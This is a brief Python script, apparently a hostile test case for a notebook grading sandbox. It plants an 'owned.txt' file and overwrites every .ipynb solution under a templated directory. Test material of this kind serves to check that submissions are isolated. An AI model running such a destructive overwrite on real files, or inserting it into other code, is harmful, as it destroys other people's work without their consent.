# where: first
# kind: harms
# does: A file is left among the solutions, and every solution is overwritten.
import pathlib

for path in [pathlib.Path("@SOLUTIONS@", "owned.txt"), *pathlib.Path("@SOLUTIONS@").rglob("*.ipynb")]:
    try:
        path.write_text("owned")
    except Exception as error:
        print(error)
